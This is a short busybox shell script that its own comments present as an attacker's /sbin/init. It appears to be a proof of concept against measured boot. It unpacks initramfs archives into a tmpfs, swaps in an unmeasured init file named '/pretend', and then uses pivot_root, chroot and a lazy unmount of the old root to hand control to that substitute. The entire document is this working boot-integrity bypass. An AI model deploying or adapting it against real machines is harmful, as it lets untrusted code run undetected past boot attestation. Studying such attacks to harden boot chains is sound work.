#!/bin/busybox sh
# An attacker's /sbin/init, on a file system that the kernel has mounted without any initramfs: it gives way to one that
# nobody measured.
/bin/busybox mount -t tmpfs -o size=600m tmpfs /mnt
cd /mnt || exit
# Empty, where all of the image is compressed.
[ ! -s /plain.cpio ] || /bin/busybox cpio -i -d </plain.cpio
/bin/busybox cpio -i -d </initramfs.cpio
/bin/busybox rm -f init
/bin/busybox cp /pretend init
/bin/busybox mkdir -p old
/bin/busybox pivot_root . old
exec /old/bin/busybox chroot . /old/bin/busybox sh -c '/old/bin/busybox umount -l /old; exec /init'
